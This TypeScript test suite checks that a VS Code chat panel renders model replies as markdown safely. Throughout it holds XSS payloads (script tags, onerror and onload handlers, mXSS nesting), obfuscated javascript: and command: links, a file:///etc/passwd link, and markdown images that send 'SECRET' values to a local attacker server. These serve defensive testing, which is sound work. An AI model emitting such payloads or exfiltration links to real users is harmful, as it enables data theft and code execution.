// Replies rendered as markdown: the right elements, clickable web links that go through the host, and nothing that
// runs, loads or navigates, whatever the model writes.
import { strict as assert } from 'node:assert';
import {
  assistantMessage,
  snapshot,
  startCountingServer,
  usePanelHarness,
  type LocalServer,
  type PanelPage,
} from '../support/panelPage';

declare global {
  interface Window {
    __pwned?: unknown;
  }
}

const settle = (ms = 400) => new Promise((resolve) => setTimeout(resolve, ms));
const body = (panel: PanelPage, id = 'a1') => panel.page.locator(`.message[data-id="${id}"] .message-body`);

/** Streams `text` into a new reply in chunks of `size` characters and ends the turn. */
async function streamReply(panel: PanelPage, text: string, id = 'a1', size = 7): Promise<void> {
  await panel.send({ type: 'messageAdded', message: assistantMessage(id, '', 'streaming') });
  const deltas = [];
  for (let at = 0; at < text.length; at += size)
    deltas.push({ type: 'delta' as const, messageId: id, text: text.slice(at, at + size) });
  for (let at = 0; at < deltas.length; at += 50) await panel.send(...deltas.slice(at, at + 50));
  await panel.send({ type: 'turnEnded', messageId: id, status: 'done' });
}

describe('panel in Chromium: markdown replies', function () {
  this.timeout(60_000);
  const harness = usePanelHarness();
  let attacker: LocalServer;

  beforeEach(async () => {
    attacker = await startCountingServer();
  });
  afterEach(async () => {
    await attacker.close();
  });

  it('renders headings, lists, tables, code blocks, inline code and block quotes as those elements', () =>
    harness.withPanel({}, async (panel) => {
      const reply = [
        '# Title',
        '',
        'Some `inline` code and **bold** text.',
        '',
        '- one',
        '- two',
        '',
        '1. first',
        '2. second',
        '',
        '| a | b |',
        '|---|--:|',
        '| 1 | 2 |',
        '',
        '```python',
        'print("hi")',
        '```',
        '',
        '> quoted',
      ].join('\n');
      await panel.send(snapshot());
      await streamReply(panel, reply);
      const shape = await body(panel).evaluate((element) => Array.from(element.children, (child) => child.tagName));
      assert.deepEqual(shape, ['H1', 'P', 'UL', 'OL', 'TABLE', 'PRE', 'BLOCKQUOTE']);
      assert.equal(await body(panel).locator('h1').textContent(), 'Title');
      assert.equal(await body(panel).locator('p code').textContent(), 'inline');
      assert.equal(await body(panel).locator('strong').textContent(), 'bold');
      assert.deepEqual(await body(panel).locator('ul > li').allTextContents(), ['one', 'two']);
      assert.deepEqual(await body(panel).locator('table td').allTextContents(), ['1', '2']);
      assert.equal(await body(panel).locator('th').nth(1).getAttribute('class'), 'align-right');
      assert.equal(await body(panel).locator('pre > code').getAttribute('class'), 'language-python');
      assert.equal(await body(panel).locator('pre > code').textContent(), 'print("hi")\n');
      assert.equal(await body(panel).locator('blockquote p').textContent(), 'quoted');
      // Plain prose keeps its text.
      await streamReply(panel, 'Just a sentence, with no markup at all.', 'a2');
      assert.equal(await body(panel, 'a2').textContent(), 'Just a sentence, with no markup at all.');
    }));

  it('[B7-5][B7-14] posts exactly {type: openLink, href} for a click on a web or mail link, and the page does not navigate', () =>
    harness.withPanel({}, async (panel) => {
      await panel.send(snapshot());
      await streamReply(
        panel,
        `See [the site](https://example.com/a?b=1) or [mail us](mailto:team@example.com), or ${attacker.origin}/bare.`,
      );
      const before = (await panel.posted()).length;
      const url = panel.page.url();
      await body(panel).getByText('the site').click();
      await body(panel).getByText('mail us').click();
      await body(panel).locator('.md-link', { hasText: attacker.origin }).click();
      await settle(200);
      assert.deepEqual(await panel.postedSince(before), [
        { type: 'openLink', href: 'https://example.com/a?b=1' },
        { type: 'openLink', href: 'mailto:team@example.com' },
        { type: 'openLink', href: `${attacker.origin}/bare` },
      ]);
      assert.equal(panel.page.url(), url);
      assert.deepEqual(attacker.requests, [], 'a link was followed or prefetched');
      // The link shows where it goes, and has no href of its own.
      assert.equal(await body(panel).getByText('the site').getAttribute('title'), 'https://example.com/a?b=1');
      assert.equal(await body(panel).locator('[href]').count(), 0);
      // The keyboard works too.
      await body(panel).getByText('the site').focus();
      await panel.page.keyboard.press('Enter');
      assert.deepEqual((await panel.postedSince(before)).slice(3), [
        { type: 'openLink', href: 'https://example.com/a?b=1' },
      ]);
    }));

  it('[B7-3][B7-4] does not make links of other schemes clickable: a click posts nothing', () =>
    harness.withPanel({}, async (panel) => {
      const links = [
        '[a](javascript:window.__pwned=1)',
        '[b](JaVaScRiPt:window.__pwned=1)',
        '[c](java&#x09;script:window.__pwned=1)',
        '[d](%6Aavascript:window.__pwned=1)',
        '[e](vbscript:msgbox)',
        '[f](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)',
        '[g](vscode://publisher.ext/run)',
        '[h](vscode-insiders://publisher.ext/run)',
        '[i](file:///etc/passwd)',
        '[j](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)',
        '<javascript:window.__pwned=1>',
      ];
      await panel.send(snapshot());
      await streamReply(panel, links.join('\n\n'));
      assert.equal(await body(panel).locator('a, .md-link, [href]').count(), 0);
      const before = (await panel.posted()).length;
      for (const label of ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j']) {
        await body(panel)
          .locator('p')
          .filter({ hasText: new RegExp(`^\\[?${label}\\]?`) })
          .first()
          .click();
      }
      await body(panel).locator('p').last().click();
      await settle(200);
      assert.deepEqual(await panel.postedSince(before), []);
      assert.equal(await panel.page.evaluate(() => window.__pwned), undefined);
    }));

  it('[B7-11][B7-12][B7-13][B7-15] never loads an image from a reply: inline, reference-style or raw HTML; the placeholder shows the URL', () =>
    harness.withPanel({}, async (panel) => {
      const origin = attacker.origin;
      const reply = [
        `![secret chart](${origin}/p.png?d=SECRET)`,
        '',
        `![ref image][r]`,
        '',
        `[r]: ${origin}/echoleak.png?d=SECRET2`,
        '',
        `<img src="${origin}/raw.png">`,
        `<picture><source srcset="${origin}/srcset.png"></picture>`,
        `<video poster="${origin}/poster.png"></video>`,
        `<link rel="prefetch" href="${origin}/prefetch">`,
        `<meta http-equiv="refresh" content="0;url=${origin}/refresh">`,
        `<div style="background:url(${origin}/bg.png)">x</div>`,
        '',
        '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
      ].join('\n');
      await panel.send(snapshot());
      await streamReply(panel, reply, 'a1', 5);
      // And once more through a snapshot, as after a reload.
      await panel.send(snapshot({ messages: [assistantMessage('a2', reply)] }));
      await settle(600);
      assert.deepEqual(attacker.requests, []);
      assert.equal(
        await panel.page
          .locator(
            '.conversation img, .conversation video, .conversation picture, .conversation link, .conversation meta',
          )
          .count(),
        0,
      );
      const placeholders = await body(panel, 'a2')
        .locator('.md-image')
        .evaluateAll((elements) =>
          elements.map((element) => [
            element.querySelector('.md-image-alt')?.textContent,
            element.querySelector('.md-image-url')?.textContent,
          ]),
        );
      assert.deepEqual(placeholders, [
        ['secret chart', `${origin}/p.png?d=SECRET`],
        ['ref image', `${origin}/echoleak.png?d=SECRET2`],
      ]);
      // An SVG data: image is not even parsed as an image: it stays text.
      assert.match((await body(panel, 'a2').textContent()) ?? '', /!\[x\]\(data:image\/svg\+xml;base64,/);
      // The raw HTML is shown as text.
      assert.match((await body(panel, 'a2').textContent()) ?? '', /<video poster=/);
      assert.deepEqual(await panel.cspViolations(), []);
    }));

  it('[B7-1][B7-2][B7-6] shows raw HTML as text and runs nothing: script, img onerror, svg onload, iframe srcdoc, details ontoggle', () =>
    harness.withPanel({}, async (panel) => {
      const payloads = [
        '<script>window.__pwned=1</script>',
        '<img src=x onerror="window.__pwned=1">',
        '<svg onload="window.__pwned=1"></svg>',
        '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        '<details open ontoggle="window.__pwned=1">x</details>',
        '</noscript><img src=x onerror="window.__pwned=1">',
        '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
      ];
      await panel.send(snapshot());
      await streamReply(panel, payloads.join('\n\n'), 'a1', 3);
      await settle();
      assert.equal(await panel.page.evaluate(() => window.__pwned), undefined);
      assert.deepEqual(await body(panel).locator('p').allTextContents(), payloads);
      const tags = await body(panel).evaluate((element) =>
        Array.from(element.querySelectorAll('*'), (child) => child.tagName),
      );
      assert.deepEqual([...new Set(tags)], ['P']);
    }));

  it('[B7-7] keeps a code fence info string from injecting attributes, and copies the raw code', () =>
    harness.withPanel({}, async (panel) => {
      const code = 'const a = "<b>&amp;</b>";\n  indented();\n';
      const reply = [
        '```js" onmouseover="window.__pwned=1',
        code + '```',
        '',
        '```c++ extra',
        'int x;',
        '```',
        '',
        '```{.evil}',
        'y',
        '```',
      ].join('\n');
      await panel.send(snapshot());
      await streamReply(panel, reply);
      const codes = await body(panel)
        .locator('pre > code')
        .evaluateAll((elements) =>
          // `data-highlighted` is the panel's own mark once a block is coloured (in idle time, so maybe not yet).
          elements.map((element) => ({
            attributes: element.getAttributeNames().filter((name) => name !== 'data-highlighted'),
            className: element.className,
          })),
        );
      assert.deepEqual(codes, [
        { attributes: [], className: '' },
        { attributes: ['class'], className: 'language-c++' },
        { attributes: [], className: '' },
      ]);
      await body(panel).locator('pre').first().hover();
      const before = (await panel.posted()).length;
      await body(panel).locator('pre .md-copy').first().click();
      // The host puts it on the clipboard (a webview's own clipboard access is not reliable in VS Code).
      assert.deepEqual(await panel.postedSince(before), [{ type: 'codeAction', action: 'copy', code }]);
      assert.equal(await panel.page.evaluate(() => window.__pwned), undefined);
    }));

  it('[B7-8][D11a] shows bidi controls, zero-width and tag characters as visible markers; copying keeps them', () =>
    harness.withPanel({}, async (panel) => {
      const prose = 'Invoice for \u202Egnp.exe\u202C and zero\u200Bwidth\u200D joiners \u{E0041}\u{E0042} tags.';
      const code = 'const role\u2066 = "user";\u2069 // admin\n';
      const kept = 'Family 👨\u200D👩\u200D👧 and کتاب\u200Cها stay as they are.';
      const reply = `${prose}\n\n- item \u202E reversed\n- next\n\n\`\`\`js\n${code}\`\`\`\n\n${kept}`;
      await panel.send(snapshot());
      await streamReply(panel, reply);
      await panel.send({ type: 'messageAdded', message: assistantMessage('a2', 'after', 'done') });
      const paragraph = body(panel).locator('p').first();
      // The text itself is what the model sent: a selection, a copy or a screen reader gets it unchanged.
      assert.equal(await paragraph.textContent(), prose);
      const markers = await paragraph.locator('.md-invisible').evaluateAll((elements) =>
        elements.map((element) => ({
          label: element.getAttribute('data-label'),
          title: element.getAttribute('title'),
          width: element.getBoundingClientRect().width,
        })),
      );
      assert.deepEqual(
        markers.map((marker) => marker.label),
        ['⟨U+202E⟩', '⟨U+202C⟩', '⟨U+200B⟩', '⟨U+200D⟩', '⟨U+E0041 U+E0042⟩'],
      );
      // Each marker takes room on the line (the characters alone are zero-width), and the tag characters say what
      // they spell.
      for (const marker of markers) assert.ok(marker.width > 8, JSON.stringify(marker));
      assert.equal(markers[4].title, 'Invisible characters: U+E0041 U+E0042 “AB”');
      // The override does not turn the name after it around: "gnp.exe" reads left to right, as it is stored.
      const order = await paragraph.evaluate((element) => {
        const text = Array.from(element.childNodes).find((node) => node.textContent?.startsWith('gnp.exe'));
        if (!text) return undefined;
        const left = (offset: number) => {
          const range = document.createRange();
          range.setStart(text, offset);
          range.setEnd(text, offset + 1);
          return range.getBoundingClientRect().left;
        };
        return { first: left(0), last: left(6) };
      });
      assert.ok(order && order.first < order.last, `"g" is drawn right of "e": ${JSON.stringify(order)}`);
      assert.deepEqual(await body(panel).locator('li .md-invisible').allTextContents(), ['\u202E']);
      // In a code block too; its Copy gets the raw code, invisible characters and all.
      assert.equal(await body(panel).locator('pre code .md-invisible').count(), 2);
      await body(panel).locator('pre').first().hover();
      const before = (await panel.posted()).length;
      await body(panel).locator('pre .md-copy').first().click();
      assert.deepEqual(await panel.postedSince(before), [{ type: 'codeAction', action: 'copy', code, language: 'js' }]);
      // Joiners inside emoji and between Persian letters are part of the writing, not hidden text.
      assert.equal(await body(panel).locator('p').last().textContent(), kept);
      assert.equal(await body(panel).locator('p').last().locator('.md-invisible').count(), 0);
      const overflow = await panel.page.$$eval('.message, .message-body', (elements) =>
        elements.map((element) => element.scrollWidth - element.clientWidth),
      );
      assert.ok(
        overflow.every((value) => value <= 1),
        JSON.stringify(overflow),
      );
      // The next message is still in order, below the reply.
      const messages = await panel.page.$$eval('.message', (elements) =>
        elements.map((element) => element.getAttribute('data-id')),
      );
      assert.deepEqual(messages, ['a1', 'a2']);
    }));

  it('[B7-9] gets through pathological markdown without hanging', async function () {
    this.timeout(180_000);
    await harness.withPanel({}, async (panel) => {
      await panel.send(snapshot());
      const cases = [
        '>'.repeat(10_000) + ' deep',
        '['.repeat(100_000),
        'x'.repeat(1_000_000),
        '*a**'.repeat(20_000),
        '- '.repeat(5_000) + 'deep list',
      ];
      for (const [index, text] of cases.entries()) {
        // As a snapshot, and streamed in large chunks.
        await panel.send({ type: 'messageAdded', message: assistantMessage(`s${index}`, text, 'done') });
        await streamReply(panel, text.slice(0, 200_000), `t${index}`, 20_000);
      }
      assert.equal(await panel.page.locator('.message').count(), cases.length * 2);
      assert.ok(((await body(panel, 's2').textContent()) ?? '').length === 1_000_000);
      assert.ok(((await body(panel, 's1').textContent()) ?? '').length === 100_000);
    });
  });
});
